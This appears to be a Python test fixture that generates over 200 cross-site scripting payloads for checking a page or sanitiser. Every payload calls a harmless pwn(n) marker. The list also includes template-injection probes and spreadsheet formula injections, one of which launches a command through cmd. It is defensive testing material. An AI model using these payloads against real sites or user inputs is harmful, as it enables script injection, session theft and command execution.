# ruff: noqa: E501 — a payload is one piece
"""Text that would run as script if some page believed it. Each calls `pwn(n)`, n being its own number.

The classes are the known ones: elements, attributes that run, SVG and MathML, addresses that run, entities and
odd encodings, Markdown, styles, templates, broken and nested markup, and polyglots of these.
"""

from itertools import product

CALL = "pwn()"
_EVENTS = (
    "onerror", "onload", "onclick", "onfocus", "onmouseover", "onanimationstart", "ontoggle", "onbegin",
    "onpointerenter", "onwheel", "oncut", "onbeforeinput", "onscroll", "ontransitionend", "onpageshow",
)  # fmt: skip
_HOSTS = (
    "<img src=x {}>", "<svg {}></svg>", "<body {}>", "<details open {}>", "<input autofocus {}>",
    "<video><source {}></video>", "<iframe {}></iframe>", "<marquee {}>x</marquee>",
)  # fmt: skip
_ADDRESSES = (
    f"javascript:{CALL}", f"JaVaScRiPt:{CALL}", f"java\tscript:{CALL}", f" javascript:{CALL}",
    f"&#106;avascript:{CALL}", f"javascript&colon;{CALL}", f"data:text/html,<script>{CALL}</script>",
    f"vbscript:{CALL}", f"javascript://%0a{CALL}", f"\x01javascript:{CALL}",
)  # fmt: skip
_LINKS = (
    '<a href="{}">x</a>', '<form action="{}"><button>x</button></form>', '<iframe src="{}"></iframe>',
    '<object data="{}"></object>', "[x]({})", "![x]({})", "<{}>", "[x][1]\n\n[1]: {}",
)  # fmt: skip
_SINGLE = (
    f"<script>{CALL}</script>", f"<ScRiPt>{CALL}</ScRiPt>", f"<script/x>{CALL}</script/x>",
    f"<script\n>{CALL}</script\n>", f"<<script>{CALL}//<</script>", f"<scr<script>ipt>{CALL}</scr</script>ipt>",
    f"</title><script>{CALL}</script>", f"</textarea><script>{CALL}</script>", f"</script><script>{CALL}</script>",
    f"</style><script>{CALL}</script>", f"</option></select><script>{CALL}</script>", f"--><script>{CALL}</script>",
    f"]]><script>{CALL}</script>", f"<script src=data:,{CALL}></script>", f"<script type=module>{CALL}</script>",
    f"<svg><script>{CALL}</script></svg>", f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{CALL}'><text y=20>x</text></a></svg>", f"<svg><use href='data:,{CALL}#x'>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={CALL}></style></mglyph></table></mtext></math>",
    f"<math href='javascript:{CALL}'>x</math>", f"<noscript><p title='</noscript><img src=x onerror={CALL}>'>",
    f"<template><script>{CALL}</script></template>", f"<base href='javascript:{CALL}//'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{CALL}'>", f"<link rel=stylesheet href='javascript:{CALL}'>",
    f"<style>@import 'javascript:{CALL}';</style>", f"<style>*{{background:url(javascript:{CALL})}}</style>",
    f"<div style='width:expression({CALL})'>", f"<div style=\"background:url('javascript:{CALL}')\">",
    f"<embed src='data:image/svg+xml,<svg onload={CALL}/>'>", f"<iframe srcdoc='<script>parent.{CALL}</script>'>",
    f"<isindex action=javascript:{CALL} type=image>", f"<x contenteditable onblur={CALL}>x", f"<xss id=x onfocus={CALL}>",
    f"\" onmouseover={CALL} x=\"", f"' onmouseover={CALL} x='", f"\" autofocus onfocus={CALL} x=\"",
    f"' autofocus onfocus={CALL} x='", f"x onerror={CALL}", f"`onmouseover={CALL}`", f"\"><img src=x onerror={CALL}>",
    f"'><img src=x onerror={CALL}>", f"</p><img src=x onerror={CALL}>", f"javascript:{CALL}", f"data:text/html,{CALL}",
    f"&lt;script&gt;{CALL}&lt;/script&gt;", f"&#60;script&#62;{CALL}&#60;/script&#62;", f"%3Cscript%3E{CALL}%3C/script%3E",
    f"\\u003cscript\\u003e{CALL}\\u003c/script\\u003e", f"\\x3cscript\\x3e{CALL}\\x3c/script\\x3e", f"＜script＞{CALL}＜/script＞",
    f"+ADw-script+AD4-{CALL}+ADw-/script+AD4-", f"\u202e<script>{CALL}</script>", f"\u2028{CALL}\u2029", f"\ufeff<script>{CALL}</script>",
    f"<img src=x onerror\u3000={CALL}>", f"<img/src/onerror={CALL}>", "<img src=x onerror=&#112;wn()>", f"<img src=x:x onerror\n=\n{CALL}>",
    f"{{{{7*7}}}}{{{{{CALL}}}}}", f"${{{CALL}}}", f"<%= {CALL} %>", f"{{% import os %}}{CALL}", f"#{{{CALL}}}", f"{{{{constructor.constructor('{CALL}')()}}}}",
    "{{config}}", "{{self.__init__.__globals__}}", "{{''.__class__.__mro__}}", "%(n)s%(x)s%s%d", "{0}{x.__class__}",
    f"';{CALL};'", f"\";{CALL};\"", f"\\';{CALL}//", f"</script><svg/onload={CALL}>", f"`;{CALL};`", f"*/{CALL}/*", f"\\\";{CALL}//",
    f"<!--<img src='--><img src=x onerror={CALL}>'>", f"<![CDATA[<script>{CALL}</script>]]>", f"<?xml version='1.0'?><script>{CALL}</script>",
    f"# <img src=x onerror={CALL}>", f"> <script>{CALL}</script>", f"```\n</code></pre><script>{CALL}</script>\n```", f"| a | b |\n|---|---|\n| <img src=x onerror={CALL}> | x |",
    f"[x](rule:../../javascript:{CALL})", f"[x](rule:\" onmouseover=\"{CALL})", f"![\" onerror=\"{CALL}](x)", f"[x](/rules 'y\" onmouseover=\"{CALL}')",
    f"<a href=\"/\" onclick={CALL}>x</a>", f"<javascript:{CALL}>", f"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk={CALL} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd={CALL}//>\\x3e",
    f"'\"()&%<acx><ScRiPt >{CALL}</ScRiPt>", f"\">><marquee><img src=x onerror={CALL}></marquee>\"</plaintext\\></|\\><plaintext/onmouseover={CALL}>",
    f"=HYPERLINK(\"javascript:{CALL}\")", f"=cmd|' /C {CALL}'!A0", f"+{CALL}", f"-{CALL}", f"@SUM({CALL})", f"\t={CALL}",
    "<b>bold</b><i>", "<table><tr><td>", "<h1>", "</main></body></html>", "<plaintext>", "<!--", "<textarea>", "<title>", "&amp;lt;", "&notit;",
)  # fmt: skip


def corpus() -> list[str]:
    """At least 200 different payloads; `pwn()` of the nth calls pwn(n)."""
    made = [host.format(f"{event}={CALL}") for host, event in product(_HOSTS, _EVENTS)]
    made += [link.format(address) for link, address in product(_LINKS, _ADDRESSES)]
    made += _SINGLE
    return [text.replace(CALL, f"pwn({n})") for n, text in enumerate(made)]
